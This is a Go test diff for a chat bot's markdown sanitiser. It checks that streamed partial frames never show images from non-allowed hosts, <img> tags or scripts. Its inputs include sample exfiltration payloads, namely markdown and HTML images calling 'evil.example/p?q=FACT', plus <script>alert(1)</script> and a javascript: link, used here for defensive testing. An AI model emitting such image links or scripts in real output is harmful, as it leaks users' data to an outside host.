@@ -6,6 +6,8 @@ import (
 	"testing"
 
 	"pgregory.net/rapid"
+
+	"ebb/bot/dingtalk/markdown"
 )
 
 func TestFinal(t *testing.T) {
@@ -262,6 +264,29 @@ func TestFramesOnlyGrow(t *testing.T) {
 			}
 		}
 	})
+}
+
+// No frame of a growing text shows a picture of another host or an HTML tag, and none takes back what the end makes of them.
+func TestFramesShowNoPicture(t *testing.T) {
+	t.Parallel()
+	p := markdown.PicturesOf([]string{"img.example.com"})
+	for _, doc := range []string{
+		"周五三点。\n\n![s](https://evil.example/p?q=FACT) 以上，![t](https://img.example.com/a.png)。",
+		"看 <img src=\"https://evil.example/p?q=FACT\" alt=\"s\"> 和 <a href=\"https://b.example/x\">这里</a>，完。",
+		"<script>alert(1)</script>\n\n- [x](javascript:alert(1))\n- a < b，List<String>\n",
+		"| 图 |\n|---|\n| ![s](https://evil.example/p) |\n",
+	} {
+		final := words(look(Final(p.Safe(doc))).all.String())
+		for n, runes := 0, []rune(doc); n <= len(runes); n++ {
+			frame := Frame(p.SafeOpen(string(runes[:n])))
+			if strings.Contains(frame, "![s]") || strings.Contains(frame, "<img") || strings.Contains(frame, "<script") {
+				t.Errorf("the frame of %q is %q", string(runes[:n]), frame)
+			}
+			if shown := words(look(frame).all.String()); !strings.HasPrefix(final, shown) {
+				t.Errorf("the frame of %q shows %s, and at the end %s", string(runes[:n]), shown, final)
+			}
+		}
+	}
 }
 
 // TestFinalKeepsEveryWord states that no word is lost or added, that a finished text is a fixed point, and that the last
